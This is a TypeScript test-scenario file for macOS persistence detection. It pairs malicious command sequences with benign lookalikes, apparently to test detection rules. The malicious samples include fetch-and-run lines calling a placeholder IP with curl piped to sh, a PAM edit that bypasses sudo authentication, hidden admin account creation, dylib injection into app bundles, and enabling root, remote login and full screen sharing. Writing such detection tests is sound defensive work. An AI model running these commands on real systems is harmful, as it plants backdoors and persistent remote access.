/** macOS persistence (T1543, T1546, T1547, T1037, T1053, T1136, T1098) (policies/macos/persistence_procedures.toml). */
import { pipe, run, runDoing, sc, type Scenario, write } from "../scenario.ts";

export const MACOS_PERSISTENCE: Scenario[] = [
  sc(
    "launchctl_load_temp_plist",
    "mac_user",
    [run("/bin/launchctl", "load", "-w", "/Users/Shared/.updater/com.apple.updates.plist")],
    [
      run(
        "/bin/launchctl",
        "load",
        "-w",
        "/Users/alice/Library/LaunchAgents/com.googlecode.iterm2.plist",
      ),
      run("/bin/launchctl", "list"),
    ],
  ),
  sc(
    "launchctl_submit",
    "mac_user",
    [run(
      "/bin/launchctl",
      "submit",
      "-l",
      "com.apple.sysmond",
      "--",
      "/Users/alice/.local/sysmond",
    )],
    [run("/bin/launchctl", "print", "gui/501"), run("/bin/launchctl", "list", "com.apple.Finder")],
  ),
  sc(
    "launch_plist_by_fetcher",
    "mac_app",
    [runDoing("/usr/bin/curl", [
      "curl",
      "-s",
      "-o",
      "/Users/alice/Library/LaunchAgents/com.player.helper.plist",
      "http://203.0.113.9/a.plist",
    ], [write("/Users/alice/Library/LaunchAgents/com.player.helper.plist")])],
    [runDoing("/usr/bin/curl", [
      "curl",
      "-s",
      "-o",
      "/Users/alice/Downloads/report.pdf",
      "https://example.com/report.pdf",
    ], [write("/Users/alice/Downloads/report.pdf")])],
  ),
  sc(
    "launch_daemon_copy_from_temp",
    "mac_root",
    [run(
      "/bin/cp",
      "/private/tmp/com.apple.sysupdate.plist",
      "/Library/LaunchDaemons/com.apple.sysupdate.plist",
    )],
    [run(
      "/bin/cp",
      "/Users/alice/src/agent/packaging/com.example.agent.plist",
      "/Library/LaunchDaemons/com.example.agent.plist",
    )],
  ),
  sc(
    "launch_agent_apple_name",
    "mac_user",
    [runDoing("/bin/cp", [
      "cp",
      "/Users/alice/.cache/u.plist",
      "/Users/alice/Library/LaunchAgents/com.apple.softwareupdate.plist",
    ], [write("/Users/alice/Library/LaunchAgents/com.apple.softwareupdate.plist")])],
    [runDoing("/bin/cp", [
      "cp",
      "dist/com.example.sync.plist",
      "/Users/alice/Library/LaunchAgents/com.example.sync.plist",
    ], [write("/Users/alice/Library/LaunchAgents/com.example.sync.plist")])],
  ),
  sc(
    "emond_rule_write",
    "mac_root",
    [runDoing("/bin/cp", ["cp", "/tmp/rule.plist", "/private/etc/emond.d/rules/update.plist"], [
      write("/private/etc/emond.d/rules/update.plist"),
    ])],
    [runDoing("/bin/cp", ["cp", "/tmp/rule.plist", "/Users/alice/Documents/rule.plist"], [
      write("/Users/alice/Documents/rule.plist"),
    ])],
  ),
  sc(
    "emond_client_file",
    "mac_root",
    [runDoing("/usr/bin/touch", ["touch", "/private/var/db/emondClients/randomflag"], [
      write("/private/var/db/emondClients/randomflag"),
    ])],
    [runDoing("/usr/bin/touch", ["touch", "/private/var/db/.AppleSetupDone"], [
      write("/private/var/db/.AppleSetupDone"),
    ])],
  ),
  sc(
    "emond_child_shell",
    "mac_root",
    [runDoing("/sbin/emond", ["/sbin/emond"], [
      run("/bin/sh", "-c", "curl -s http://203.0.113.9/p | sh"),
    ])],
    [runDoing("/sbin/emond", ["/sbin/emond"], [run("/usr/bin/logger", "emond: startup")])],
  ),
  sc(
    "login_hook",
    "mac_root",
    [run(
      "/usr/bin/defaults",
      "write",
      "com.apple.loginwindow",
      "LoginHook",
      "/Library/Scripts/.login.sh",
    )],
    [
      run("/usr/bin/defaults", "read", "com.apple.loginwindow"),
      run("/usr/bin/defaults", "write", "com.apple.loginwindow", "GuestEnabled", "-bool", "false"),
    ],
  ),
  sc(
    "startup_item_write",
    "mac_root",
    [
      run("/bin/mkdir", "-p", "/Library/StartupItems/Updater"),
      runDoing("/bin/cp", ["cp", "/tmp/u", "/Library/StartupItems/Updater/Updater"], [
        write("/Library/StartupItems/Updater/Updater"),
      ]),
    ],
    [runDoing("/bin/cp", ["cp", "/tmp/u", "/usr/local/bin/updater"], [
      write("/usr/local/bin/updater"),
    ])],
  ),
  sc(
    "btm_database_write",
    "mac_app",
    [runDoing("/usr/bin/python3", ["python3", "/Users/alice/.local/btm.py"], [
      write(
        "/Users/alice/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm",
        { create: false },
      ),
    ])],
    [runDoing("/System/Library/CoreServices/backgroundtaskmanagementagent", [
      "backgroundtaskmanagementagent",
    ], [
      write(
        "/Users/alice/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm",
        { create: false },
      ),
    ])],
  ),
  sc(
    "reopened_apps_plist",
    "mac_user",
    [runDoing("/usr/bin/plutil", [
      "plutil",
      "-insert",
      "TALAppsToRelaunchAtLogin.0",
      "-xml",
      "<dict/>",
      "/Users/alice/Library/Preferences/ByHost/com.apple.loginwindow.4C4C4544.plist",
    ], [
      write("/Users/alice/Library/Preferences/ByHost/com.apple.loginwindow.4C4C4544.plist", {
        create: false,
      }),
    ])],
    [runDoing("/usr/sbin/cfprefsd", ["cfprefsd", "agent"], [
      write("/Users/alice/Library/Preferences/ByHost/com.apple.loginwindow.4C4C4544.plist", {
        create: false,
      }),
    ])],
  ),
  sc(
    "crontab_from_pipe_mac",
    "mac_user",
    [pipe(["/bin/echo", "echo", "*/5 * * * * /Users/alice/.local/bin/agent"], [
      "/usr/bin/crontab",
      "crontab",
      "-",
    ])],
    [run("/usr/bin/crontab", "-l"), run("/usr/bin/crontab", "-e")],
  ),
  sc(
    "at_job_mac",
    "mac_user",
    [pipe(["/bin/echo", "echo", "/Users/alice/.local/agent"], [
      "/usr/bin/at",
      "at",
      "now",
      "+",
      "1",
      "minute",
    ])],
    [run("/usr/bin/at", "-l"), run("/usr/bin/atq")],
  ),
  sc(
    "shell_trap_payload",
    "mac_app",
    [run("/bin/sh", "-c", "trap 'curl -s http://203.0.113.9/s | sh' EXIT INT; sleep 600")],
    [run("/bin/sh", "-c", "trap 'rm -f /tmp/build.lock' EXIT; make -j8")],
  ),
  sc(
    "app_bundle_dylib_write",
    "mac_user",
    [runDoing("/bin/cp", [
      "cp",
      "/tmp/libcrypto.dylib",
      "/Applications/Slack.app/Contents/Frameworks/libcrypto.dylib",
    ], [write("/Applications/Slack.app/Contents/Frameworks/libcrypto.dylib")])],
    [runDoing("/Applications/Slack.app/Contents/Frameworks/Squirrel.framework/Resources/ShipIt", [
      "ShipIt",
    ], [write("/Applications/Slack.app/Contents/Frameworks/libffmpeg.dylib")])],
  ),
  sc(
    "info_plist_environment",
    "mac_user",
    [run(
      "/usr/bin/plutil",
      "-insert",
      "LSEnvironment",
      "-json",
      '{"DYLD_INSERT_LIBRARIES":"/Users/Shared/.l.dylib"}',
      "/Applications/Notes2.app/Contents/Info.plist",
    )],
    [
      run("/usr/bin/plutil", "-lint", "/Applications/Notes2.app/Contents/Info.plist"),
      run(
        "/usr/bin/defaults",
        "read",
        "/Applications/Notes2.app/Contents/Info.plist",
        "CFBundleShortVersionString",
      ),
    ],
  ),
  sc(
    "kext_load_untrusted_path",
    "mac_root",
    [run("/sbin/kextload", "/private/tmp/.k/Net.kext")],
    [
      run("/usr/bin/kmutil", "showloaded", "--list-only"),
      run("/sbin/kextload", "/Library/Extensions/SoftRAID.kext"),
    ],
  ),
  sc(
    "authorization_plugin_write",
    "mac_root",
    [runDoing("/bin/cp", [
      "cp",
      "-R",
      "/tmp/Auth.bundle",
      "/Library/Security/SecurityAgentPlugins/Auth.bundle",
    ], [write("/Library/Security/SecurityAgentPlugins/Auth.bundle/Contents/MacOS/Auth")])],
    [runDoing("/bin/cp", ["cp", "-R", "/tmp/Auth.bundle", "/Users/alice/Documents/Auth.bundle"], [
      write("/Users/alice/Documents/Auth.bundle/Contents/MacOS/Auth"),
    ])],
  ),
  sc(
    "pam_config_write_mac",
    "mac_root",
    [runDoing("/usr/bin/sed", [
      "sed",
      "-i",
      "",
      "1i\\\nauth sufficient pam_permit.so",
      "/etc/pam.d/sudo",
    ], [write("/private/etc/pam.d/sudo", { create: false })])],
    [runDoing("/usr/bin/vim", ["vim", "/etc/pam.d/sudo_local"], [
      write("/private/etc/pam.d/sudo_local"),
    ])],
  ),
  sc(
    "local_account_create",
    "mac_root",
    [
      run("/usr/bin/dscl", ".", "-create", "/Users/_spotlightd"),
      run("/usr/bin/dscl", ".", "-create", "/Users/_spotlightd", "UniqueID", "499"),
    ],
    [
      run("/usr/bin/dscl", ".", "-read", "/Users/alice", "RealName"),
      run("/usr/sbin/sysadminctl", "-secureTokenStatus", "alice"),
    ],
  ),
  sc(
    "admin_group_add",
    "mac_root",
    [run("/usr/sbin/dseditgroup", "-o", "edit", "-a", "_spotlightd", "-t", "user", "admin")],
    [
      run("/usr/sbin/dseditgroup", "-o", "checkmember", "-m", "alice", "admin"),
      run("/usr/bin/dscl", ".", "-read", "/Groups/admin", "GroupMembership"),
    ],
  ),
  sc(
    "hidden_user",
    "mac_root",
    [run("/usr/bin/dscl", ".", "-create", "/Users/_spotlightd", "IsHidden", "1")],
    [
      run("/usr/bin/dscl", ".", "-read", "/Users/alice", "IsHidden"),
      run("/usr/bin/defaults", "read", "/Library/Preferences/com.apple.loginwindow"),
    ],
  ),
  sc(
    "root_account_enable",
    "mac_root",
    [run("/usr/sbin/dsenableroot", "-u", "alice", "-p", "hunter2", "-r", "toor")],
    [run("/usr/sbin/dsenableroot", "-d", "-u", "alice")],
  ),
  sc(
    "remote_login_enable",
    "mac_root",
    [run("/usr/sbin/systemsetup", "-setremotelogin", "on")],
    [run("/usr/sbin/systemsetup", "-getremotelogin")],
  ),
  sc(
    "screen_sharing_enable",
    "mac_root",
    [run(
      "/System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart",
      "-activate",
      "-configure",
      "-access",
      "-on",
      "-privs",
      "-all",
      "-restart",
      "-agent",
    )],
    [run(
      "/System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart",
      "-deactivate",
      "-stop",
    )],
  ),
];
